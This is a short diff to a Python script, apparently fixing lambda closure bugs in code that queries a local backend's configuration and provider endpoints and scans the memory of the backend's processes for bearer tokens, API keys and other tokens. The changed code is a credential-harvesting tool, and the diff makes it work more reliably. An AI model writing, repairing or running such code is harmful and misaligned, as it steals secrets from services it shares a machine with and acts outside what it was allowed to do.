@@ -71,7 +71,7 @@ def backend_api():
     for path in ("/config", "/config/providers", "/provider"):
         request = urllib.request.Request(f"http://127.0.0.1:{port}{path}", headers={"Authorization": f"Basic {auth}"})
         opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
-        said.append(safely(lambda: opener.open(request, timeout=10).read().decode()))
+        said.append(safely(lambda o=opener, r=request: o.open(r, timeout=10).read().decode()))
     return "\n".join(said)
 
 
@@ -82,7 +82,7 @@ def memory():
     """What follows each `Bearer `, `apiKey`, `api_key`, `token` in the memory of every process of the backend."""
     hits = []
     needles = re.compile(rb"(Bearer |apiKey|api_key|Token|token)")
-    backend = [pid for pid in pids if os.path.basename(safely(lambda: os.readlink(f"/proc/{pid}/exe"))) in BACKENDS]
+    backend = [pid for pid in pids if os.path.basename(safely(lambda p=pid: os.readlink(f"/proc/{p}/exe"))) in BACKENDS]
     for pid in backend:
         try:
             maps = open(f"/proc/{pid}/maps").read().splitlines()
